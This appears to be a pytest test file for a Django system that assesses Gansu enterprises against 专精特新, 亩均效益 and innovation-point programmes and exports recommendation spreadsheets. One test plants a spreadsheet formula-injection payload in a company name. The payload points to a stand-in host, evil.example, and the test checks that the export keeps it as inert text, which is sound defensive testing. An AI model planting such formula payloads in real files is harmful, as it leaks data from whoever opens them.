"""Stored programme runs, the programme pages, fragments, scope and the 推荐名单 export."""

import datetime as dt
import io

import openpyxl
import pytest

from jingkai.audit.models import AuditEntry
from jingkai.enterprises.models import Enterprise, EnterpriseInnovation, EnterpriseTag
from jingkai.enterprises.uscc import make_uscc
from jingkai.programmes.exports import HEADER, RECOMMENDED
from jingkai.programmes.models import ProgrammeResult, ProgrammeRun
from jingkai.programmes.services import run_programme
from jingkai.testing import make_enterprise_year

ON = dt.date(2025, 6, 1)  # 2022 rules in force
RUN_AUDIT = {"model": "programmes.ProgrammeRun", "action": "run"}

# A small, 3 years in its niche, R&D 3% of revenue, and a direct route (equity 6000万元): 专精特新.
BASE = dict(revenue=5000, main_revenue=4500, main_revenue_prev=4000, main_revenue_prev2=3600, rd_expense=150,
            rd_expense_prev=140, years_in_niche=3, equity_financing_2y=6000, total_assets=5000,
            total_liabilities=2000, employees=120, rd_staff=20, tax_paid=300, value_added=1500, land_area_mu=50,
            energy_tce_equivalent=800, pollutant_emissions_t=10, net_profit=400, electricity_mwh=900)


def enterprise(zone, serial, name, tags=(), size="small", **year):
    e = Enterprise.objects.create(uscc=make_uscc(zone.division_code, f"{serial:08d}"), name=name, zone=zone,
                                  industry_code="C3841", size_class=size, above_scale=True,
                                  established=dt.date(2010, 1, 1))
    make_enterprise_year(e, 2024, **(BASE | year))
    for tag in tags:
        EnterpriseTag.objects.create(enterprise=e, tag=tag, valid_from=dt.date(2023, 1, 1), valid_to=dt.date(2026, 12, 31))
    return e


@pytest.fixture
def firms(zones):
    lz, jc = zones["GS-LZ"], zones["GS-JC"]
    return {
        "A": enterprise(lz, 1, "兰州甲科技有限公司"),                                    # eligible, R&D exactly 3%
        "B": enterprise(lz, 2, "兰州乙材料有限公司", rd_expense=120),                     # R&D 2.4%: one requirement short
        "C": enterprise(lz, 3, "兰州丙装备有限公司", rd_expense=120, years_in_niche=1),   # two requirements short
        "E": enterprise(lz, 4, "兰州戊电子有限公司", tags=["specialized_sme"], rd_expense=60),  # already recognised
        "D": enterprise(jc, 5, "金昌丁新材料有限公司", tax_paid=900),                      # the other zone
        "F": enterprise(jc, 6, "金昌己集团有限公司", size="large"),  # only size fails: never a candidate
    }


@pytest.fixture
def sme_run(firms, province_user):
    return run_programme("sme-specialized", 2024, ON, user=province_user)


def test_run_stores_explained_results_and_is_audited(sme_run, firms):
    assert sme_run.ruleset == "sme-specialized-2022" and sme_run.year == 2024
    results = {r.enterprise.name[:3]: r for r in ProgrammeResult.objects.filter(run=sme_run).select_related("enterprise")}
    assert len(results) == 6 and sme_run.summary["n"] == 6
    assert results["兰州甲"].eligible is True  # 150/5000 = 3%: 不低于 includes the boundary
    assert results["兰州乙"].eligible is False and results["兰州乙"].gap_count == 1
    assert results["兰州丙"].gap_count == 2
    gap = results["兰州乙"].gap
    assert [g["code"] for g in gap] == ["rd_ratio_min"] and gap[0]["from"] == 0.024 and gap[0]["to"] == 0.03
    assert gap[0]["delta"]["amount"] == 30  # +30万元 of R&D at 5000万元 revenue
    assert sme_run.summary["zones"]["GS-LZ"]["eligible"] == 1 and sme_run.summary["zones"]["GS-JC"]["eligible"] == 1
    assert AuditEntry.objects.filter(**RUN_AUDIT, object_key=str(sme_run.pk)).count() == 1


def test_identical_input_reuses_the_run_changed_input_does_not(sme_run, firms, province_user):
    again = run_programme("sme-specialized", 2024, ON, user=province_user)
    assert again.pk == sme_run.pk and ProgrammeRun.objects.count() == 1
    assert AuditEntry.objects.filter(**RUN_AUDIT).count() == 1
    EnterpriseInnovation.objects.filter(enterprise=firms["B"]).update(rd_expense=150)
    changed = run_programme("sme-specialized", 2024, ON, user=province_user)
    assert changed.pk != sme_run.pk
    assert ProgrammeResult.objects.get(run=changed, enterprise=firms["B"]).eligible is True
    assert AuditEntry.objects.filter(**RUN_AUDIT).count() == 2


def test_the_evaluation_date_picks_the_version_and_zone_runs_cover_their_zone(firms):
    run = run_programme("sme-specialized", 2024, dt.date(2026, 5, 1), zone_codes=["GS-JC"])
    assert run.ruleset == "sme-specialized-2026" and run.zones == ["GS-JC"]
    assert sorted(run.results.values_list("enterprise__name", flat=True)) == ["金昌丁新材料有限公司", "金昌己集团有限公司"]


def page_rows(response):
    return [r.enterprise.name for r in response.context["rows"]]


def test_sme_page_counts_and_candidates_closest_first(client, sme_run, province_user):
    client.force_login(province_user)
    r = client.get("/programmes/sme/", {"version": "2022", "tier": "sme-specialized"})
    assert r.status_code == 200
    counts = {row.zone.code: row for row in r.context["overview"].zones}
    assert counts["GS-LZ"].n == 4 and counts["GS-LZ"].eligible == 1 and counts["GS-LZ"].near == 1
    assert counts["GS-JC"].eligible == 1 and counts["GS-JC"].near == 0  # 己 is large: only size fails
    text = r.content.decode()
    assert "最接近专精特新中小企业的企业" in text and "口径待核实" in text
    # not eligible, not yet recognised (戊 holds the tag), fewest unmet requirements first
    assert page_rows(r) == ["兰州乙材料有限公司", "兰州丙装备有限公司"]
    assert "研发费用占营业收入总额比重不低于3% 2.4% → 3.0%" in text
    large = ProgrammeResult.objects.get(run=sme_run, enterprise__name="金昌己集团有限公司")
    assert large.eligible is False and large.gap_count == 1
    assert page_rows(client.get("/programmes/sme/", {"version": "2022", "zone": "GS-JC"})) == []
    chart = r.context["overview"].chart
    assert chart["categories"] == ["金昌经济技术开发区", "兰州经济技术开发区"]  # by zone code
    assert chart["series"] == [{"name": "专精特新中小企业", "data": [1, 1]}]  # the other tiers have no run


def test_version_without_a_run_says_so(client, sme_run, province_user):
    client.force_login(province_user)
    r = client.get("/programmes/sme/", {"version": "2026", "tier": "sme-specialized"})
    assert r.status_code == 200 and r.context["run"] is None and "尚无2026版评价结果" in r.content.decode()
    assert client.get("/programmes/sme/", {"version": "1999"}).status_code == 404
    assert client.get("/programmes/nothing/").status_code == 404


def test_zone_user_sees_only_their_zone(client, sme_run, firms, lz_user):
    client.force_login(lz_user)
    r = client.get("/programmes/sme/", {"version": "2022", "status": "all"})
    assert r.status_code == 200
    assert [row.zone.code for row in r.context["overview"].zones] == ["GS-LZ"]
    assert "金昌丁新材料有限公司" not in page_rows(r) and len(page_rows(r)) == 4
    assert client.get(f"/programmes/enterprise/{firms['D'].uscc}/").status_code == 404
    assert client.get(f"/programmes/enterprise/{firms['B'].uscc}/").status_code == 200
    assert client.get("/programmes/sme/export.xlsx", {"version": "2022", "zone": "GS-JC"}).status_code == 404
    book = openpyxl.load_workbook(io.BytesIO(client.get("/programmes/sme/export.xlsx", {"version": "2022",
                                                                                        "status": "all"}).content))
    names = [row[1] for row in book.active.iter_rows(min_row=4, values_only=True) if row[0]]
    assert "金昌丁新材料有限公司" not in names and len(names) == 4


def test_department_sees_every_zone(client, sme_run, department_user):
    client.force_login(department_user)
    r = client.get("/programmes/sme/", {"version": "2022", "status": "eligible"})
    assert page_rows(r) == ["兰州甲科技有限公司", "金昌丁新材料有限公司"]


def sheets(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}


def test_export_is_a_recommendation_list(client, sme_run, province_user):
    client.force_login(province_user)
    r = client.get("/programmes/sme/export.xlsx", {"version": "2022", "tier": "sme-specialized", "zone": "GS-LZ"})
    assert r.status_code == 200 and "attachment" in r["Content-Disposition"]
    book = sheets(r)
    assert list(book) == ["推荐名单", "培育库"]
    rows = book["推荐名单"]
    assert rows[0][0] == "兰州经济技术开发区专精特新中小企业推荐名单"
    assert list(rows[2]) == RECOMMENDED
    # qualifiers only, with their scores: 甲 (乙 and 丙 fall short, 戊 is already recognised)
    qualifier = ProgrammeResult.objects.get(run=sme_run, enterprise__name="兰州甲科技有限公司")
    assert [row[:7] for row in rows[3:] if row[0]] == [
        (1, "兰州甲科技有限公司", qualifier.enterprise.uscc, "兰州经济技术开发区", "C3841 锂离子电池制造",
         pytest.approx(qualifier.score), "符合")]
    assert qualifier.score is not None
    near = book["培育库"]
    assert near[0][0] == "兰州经济技术开发区专精特新中小企业培育库" and list(near[2]) == HEADER
    # near-misses with their gaps: 乙 is one requirement short; 丙 (two short) is not a near-miss
    assert [row[1] for row in near[3:] if row[0]] == ["兰州乙材料有限公司"]
    assert near[3][6] == "不符合" and "2.4% → 3.0%" in near[3][7] and "30万元" in near[3][7]


def test_an_empty_recommendation_list_says_so(client, firms, province_user):
    run_programme("little-giant", 2024, ON)
    client.force_login(province_user)
    r = client.get("/programmes/sme/export.xlsx", {"version": "2022", "tier": "little-giant"})
    book = sheets(r)
    rows = book["推荐名单"]
    assert rows[0][0] == "各园区专精特新“小巨人”企业推荐名单"
    assert rows[3][0] == "无符合条件企业" and all(not any(row) for row in rows[4:])
    assert "本标准不计分" in rows[1][0]


def test_specialized_2026_list_carries_the_development_score(client, firms, province_user):
    EnterpriseInnovation.objects.filter(enterprise__in=firms.values()).update(dev_score=72.5)
    run = run_programme("sme-specialized", 2024, dt.date(2026, 6, 1))
    assert set(run.results.values_list("score", flat=True)) == {72.5}
    client.force_login(province_user)
    rows = sheets(client.get("/programmes/sme/export.xlsx", {"version": "2026", "tier": "sme-specialized",
                                                             "status": "all"}))["评价结果名单"]
    assert [row[5] for row in rows[3:] if row[0]] == [72.5] * 6


def test_province_wide_lists_are_complete(client, sme_run, zones, province_user):
    lz = zones["GS-LZ"]
    many = Enterprise.objects.bulk_create([
        Enterprise(uscc=make_uscc(lz.division_code, f"{100 + i:08d}"), name=f"兰州批量{i:04d}有限公司", zone=lz,
                   industry_code="C3841", size_class="small", above_scale=True) for i in range(1100)])
    ProgrammeResult.objects.bulk_create([ProgrammeResult(run=sme_run, enterprise=e, zone=lz, eligible=False)
                                         for e in many])
    client.force_login(province_user)
    rows = sheets(client.get("/programmes/sme/export.xlsx", {"version": "2022", "status": "all"}))["评价结果名单"]
    assert len([row for row in rows[3:] if row[0]]) == 1106
    assert not any("仅导出" in str(row[0]) for row in rows)


def test_enterprise_fragment_shows_rule_value_and_gap(client, sme_run, firms, province_user):
    client.force_login(province_user)
    text = client.get(f"/programmes/enterprise/{firms['C'].uscc}/").content.decode()
    assert "专精特新中小企业认定标准" in text
    assert "从事特定细分市场时间原则上2年以上" in text and "1年" in text  # rule, value used
    assert "研发费用占营业收入总额比重不低于3%" in text and "2.4%" in text
    assert "从事特定细分市场时间原则上2年以上 1年 → 2年" in text  # the gap
    assert "结论：不符合" in text


@pytest.fixture
def mujun_run(firms):
    return run_programme("mujun-gansu", 2024, ON)


def test_mujun_page_zone_fragment_and_scope(client, mujun_run, province_user, lz_user):
    lz = ProgrammeResult.objects.filter(run=mujun_run, zone__code="GS-LZ")
    # four in the zone's cohort, 乙 and 丙 tie (same R&D): positions 25/50/50/100% → B (≤60%), B, B, D
    assert dict(lz.values_list("enterprise__name", "klass")) == {
        "兰州甲科技有限公司": "B", "兰州乙材料有限公司": "B", "兰州丙装备有限公司": "B", "兰州戊电子有限公司": "D"}
    client.force_login(province_user)
    r = client.get("/programmes/mujun/", {"class": "B"})
    assert r.status_code == 200 and len(page_rows(r)) == 4 and "临时方案" not in r.content.decode()
    assert {row.zone.code: row.by_class for row in r.context["overview"].zones}["GS-LZ"] == [0, 3, 0, 1, 0]
    text = client.get("/programmes/zone/GS-LZ/mujun/").content.decode()
    assert "A类 · 优先发展类" in text and "亩均效益分类" in text
    client.force_login(lz_user)
    assert client.get("/programmes/zone/GS-JC/mujun/").status_code == 404
    assert client.get("/programmes/zone/GS-LZ/mujun/").status_code == 200


def test_mujun_run_rates_industrial_enterprises_only(client, firms, zones, province_user, lz_user):
    soft = enterprise(zones["GS-LZ"], 7, "兰州庚软件有限公司", land_area_mu=0.01, tax_paid=5000)
    Enterprise.objects.filter(pk=soft.pk).update(industry_code="I6513")  # 软件开发: not 门类 B/C/D
    run = run_programme("mujun-gansu", 2024, ON)
    assert run.ruleset == "mujun-gansu-default-2"
    rated = set(run.results.values_list("enterprise__name", flat=True))
    assert "兰州庚软件有限公司" not in rated and len(rated) == 6 and run.summary["n"] == 6
    assert max(run.results.values_list("score", flat=True)) <= 200  # every item at most 2× its weight
    # the page says how many were left out and by which rule, per zone and in all
    assert run.summary["zones"]["GS-LZ"]["out_of_scope"] == 1
    client.force_login(province_user)
    r = client.get("/programmes/mujun/")
    text = r.content.decode()
    assert "评价范围：工业企业：GB/T 4754-2017 门类 B 采矿业" in text and "范围外企业 1 家未参评" in text
    assert {row.zone.code: row.out_of_scope for row in r.context["overview"].zones}["GS-LZ"] == 1
    client.force_login(lz_user)  # a zone sees its own count only
    assert "范围外企业 1 家未参评" in client.get("/programmes/mujun/").content.decode()


def test_innovation_points_page_marks_the_provisional_scheme(client, firms, province_user):
    run_programme("innovation-points", 2024, ON)
    client.force_login(province_user)
    r = client.get("/programmes/innovation/")
    assert r.status_code == 200 and "临时方案" in r.content.decode()
    assert len(page_rows(r)) == 6 and r.context["overview"].stages == ["初创期", "成长期", "稳定期"]
    r = client.get("/programmes/innovation/", {"stage": "稳定期"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="results")
    assert r.templates[0].name == "programmes/_results.html" and len(page_rows(r)) == 6


def test_pages_need_login(client, sme_run):
    assert client.get("/programmes/sme/").status_code == 302
    assert client.get("/programmes/zone/GS-LZ/mujun/").status_code == 302


def test_demo_dates_per_version_in_force():
    from jingkai.programmes.demo import evaluation_dates

    assert evaluation_dates(dt.date(2026, 11, 25)) == [dt.date(2026, 3, 31), dt.date(2026, 11, 25)]
    assert evaluation_dates(dt.date(2025, 6, 1)) == [dt.date(2025, 6, 1)]


def test_demo_build_stores_every_programme_and_replaces_old_runs(firms, sme_run):
    from jingkai.programmes.demo import build

    out = build(7, dt.date(2026, 11, 25))
    assert out == {f"{rid}@{day}": 6 for rid, day in [
        ("sme-innovative-2022", "2026-03-31"), ("sme-specialized-2022", "2026-03-31"), ("little-giant-2022", "2026-03-31"),
        ("sme-innovative-2022", "2026-11-25"), ("sme-specialized-2026", "2026-11-25"), ("little-giant-2026", "2026-11-25"),
        ("mujun-gansu-default-2", "2026-11-25"), ("innovation-points-provisional-2", "2026-11-25")]}
    assert not ProgrammeRun.objects.filter(pk=sme_run.pk).exists()
    # the 创新型 file applies under both versions and the tags are valid on both dates: one run, reused
    assert ProgrammeRun.objects.count() == 7


def test_sme_version_switch_shows_the_files_of_that_version(client, firms, province_user):
    from jingkai.programmes.demo import build

    build(7, dt.date(2026, 11, 25))
    client.force_login(province_user)
    for version, tier, ruleset in [("2022", "sme-specialized", "sme-specialized-2022"),
                                   ("2026", "sme-specialized", "sme-specialized-2026"),
                                   ("2026", "sme-innovative", "sme-innovative-2022"),
                                   ("2022", "little-giant", "little-giant-2022")]:
        r = client.get("/programmes/sme/", {"version": version, "tier": tier})
        assert r.status_code == 200 and r.context["run"].ruleset == ruleset
    assert client.get("/programmes/sme/").context["version"] == "2026"  # in force today


def test_run_command_stores_and_reports(firms):
    from django.core.management import call_command

    out = io.StringIO()
    call_command("run_programme", "--program", "sme-specialized", "--year", "2024", "--date", "2025-06-01", stdout=out)
    assert "符合 2 家" in out.getvalue() and ProgrammeRun.objects.count() == 1
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="没有可评价"):
        call_command("run_programme", "--program", "mujun-gansu", "--year", "2019")


def test_running_needs_the_programmes_run_capability(firms, department_user, lz_user):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied, match="您无权运行评价"):
        run_programme("sme-specialized", 2024, ON, user=lz_user)
    assert not ProgrammeRun.objects.exists()
    assert run_programme("sme-specialized", 2024, ON, user=department_user).summary_info().n == 6


def test_stored_run_summary_is_read_through_typed_accessors(sme_run):
    info = sme_run.summary_info()
    assert info.is_tier and info.n == 6 and info.eligible == 2 and info.version == "2022"
    assert sme_run.zone_summaries() is sme_run.zone_summaries()  # built once per run object
    assert sme_run.zone_summary("GS-LZ").eligible == 1 and sme_run.zone_summary("GS-LZ").n == 4
    assert sme_run.zone_summary("NOPE").n == 0


def test_account_without_organisation_is_refused(client, sme_run):
    from jingkai.testing import make_user

    client.force_login(make_user("no-unit"))
    assert client.get("/programmes/").status_code == 403
    assert client.get("/programmes/sme/", {"version": "2022"}).status_code == 403


def test_invalid_filter_is_shown_and_dropped(client, sme_run, province_user):
    client.force_login(province_user)
    r = client.get("/programmes/sme/", {"version": "2022", "status": "bogus"})
    assert r.status_code == 200 and '<span class="field-error">范围：“bogus”不是可选项</span>' in r.content.decode()
    assert page_rows(r) == ["兰州乙材料有限公司", "兰州丙装备有限公司"]  # the default: candidates


def test_the_list_export_needs_the_export_capability(client, sme_run, province_user):
    from jingkai.testing import make_user

    client.force_login(province_user)
    assert client.get("/programmes/sme/export.xlsx", {"version": "2022"}).status_code == 200
    client.force_login(make_user("no-unit"))
    response = client.get("/programmes/sme/export.xlsx", {"version": "2022"})
    assert response.status_code == 403 and "attachment" not in response.get("Content-Disposition", "")


def test_recommendation_list_prints_on_as_few_pages_as_its_rows_need(client, sme_run, province_user):
    client.force_login(province_user)
    get = lambda: client.get("/programmes/sme/export.xlsx", {"version": "2022", "tier": "sme-specialized"})  # noqa: E731
    response = get()
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    ws = book["推荐名单"]
    assert "A1:G1" in {str(r) for r in ws.merged_cells.ranges}  # the title spans the list: never cut
    assert ws.page_setup.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToHeight == 0 and ws.print_title_rows == "$3:$3"
    assert ws.print_area == f"'推荐名单'!$A$1:$G${ws.max_row}"
    assert book.properties.created.date() == sme_run.evaluation_date and book.properties.creator == "甘肃省商务厅"
    assert get().content == response.content  # the same run gives the same bytes


def test_an_enterprise_name_like_a_formula_stays_text_in_the_lists(client, sme_run, province_user):
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    Enterprise.objects.filter(name="兰州甲科技有限公司").update(name=payload)
    client.force_login(province_user)
    for params in ({"version": "2022", "tier": "sme-specialized"}, {"version": "2022", "status": "all"}):
        book = openpyxl.load_workbook(io.BytesIO(client.get("/programmes/sme/export.xlsx", params).content))
        cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.value == payload]
        assert cells and all(c.data_type == "s" for c in cells), params


def test_recommendation_list_renders_on_one_landscape_page_with_its_title(client, sme_run, province_user, tmp_path):
    from jingkai.intake.tests.test_spreadsheets import render_pdf

    client.force_login(province_user)
    path = tmp_path / "推荐名单.xlsx"
    path.write_bytes(client.get("/programmes/sme/export.xlsx", {"version": "2022", "tier": "sme-specialized"}).content)
    pages, landscape, texts = render_pdf(path, tmp_path)
    # two sheets (推荐名单, 培育库), each a few rows: one page each, the title whole on it
    assert pages == 2 and landscape
    assert "各园区专精特新中小企业推荐名单" in texts[0] and "各园区专精特新中小企业培育库" in texts[1]


def test_a_department_without_the_finance_table_sees_verdicts_not_values(client, sme_run, firms, department_user):
    """OrgUnit.year_tables: a department that may not read the finance and innovation tables sees each rule's
    pass/fail, the score and the conclusion, but the R&D ratio (研发费用 / 营业收入) and the gap stating it as
    无权查看, on the results list, the enterprise's explanation and the exported lists; what it reads (细分市场
    年限) stays shown."""
    from jingkai.accounts.models import OrgUnit

    OrgUnit.objects.filter(code="dept-gxt").update(year_tables=["talent", "niche"])
    client.force_login(department_user)
    text = client.get(f"/programmes/enterprise/{firms['C'].uscc}/").content.decode()
    assert "研发费用占营业收入总额比重不低于3%" in text and "2.4%" not in text and "无权查看" in text
    assert "从事特定细分市场时间原则上2年以上 1年 → 2年" in text  # the niche table is read: its value and gap
    assert "未满足" in text and "结论：不符合" in text
    page = client.get("/programmes/sme/", {"version": "2022", "tier": "sme-specialized", "status": "candidates"})
    listed = {r.enterprise.name: r.gaps for r in page.context["rows"]}
    assert listed["兰州乙材料有限公司"] == ["研发费用占营业收入总额比重不低于3%：无权查看（数值来自本单位未开放的数据表）"]
    assert "2.4% → 3.0%" not in page.content.decode() and "30万元" not in page.content.decode()
    book = sheets(client.get("/programmes/sme/export.xlsx", {"version": "2022", "tier": "sme-specialized",
                                                             "zone": "GS-LZ"}))
    near = book["培育库"]
    assert near[3][1] == "兰州乙材料有限公司" and near[3][6] == "不符合" and "无权查看" in near[3][7]
    assert not any("2.4%" in str(v) or "30万元" in str(v) for row in near for v in row)
    OrgUnit.objects.filter(code="dept-gxt").update(year_tables=None)  # the default: every table, every figure
    assert "2.4%" in client.get(f"/programmes/enterprise/{firms['C'].uscc}/").content.decode()


@pytest.mark.parametrize("params", [{"tier": "sme-specialized", "status": "candidates"}, {"status": "all"}],
                         ids=["推荐名单与培育库", "评价结果名单"])
def test_lists_read_plain_values_and_say_what_the_results_say(client, sme_run, province_user, params,
                                                              django_assert_max_num_queries):
    """The lists are read as column values (a bounded number of queries, no model object per row): each line
    says what the stored result says through the pages' own functions (conclusion, gaps); same bytes twice."""
    from jingkai.programmes.presentation import conclusion, gap_texts
    from jingkai.programmes.selectors import ruleset_of

    client.force_login(province_user)
    get = lambda: client.get("/programmes/sme/export.xlsx", {"version": "2022", **params})  # noqa: E731
    with django_assert_max_num_queries(16):
        first = get()
    assert get().content == first.content
    rs = ruleset_of(sme_run)
    by_uscc = {r.enterprise.uscc: r for r in ProgrammeResult.objects.filter(run=sme_run).select_related(
        "enterprise", "zone", "run")}
    lines = [row for rows in sheets(first).values() for row in rows[3:] if isinstance(row[0], int)]
    assert lines
    for row in lines:
        r = by_uscc[row[2]]
        assert row[1] == r.enterprise.name and row[3] == r.zone.name and row[6] == conclusion(r, rs)
        if len(row) > 7:
            assert (row[7] or "") == ("；".join(gap_texts(r)) if r.eligible is not True else "")
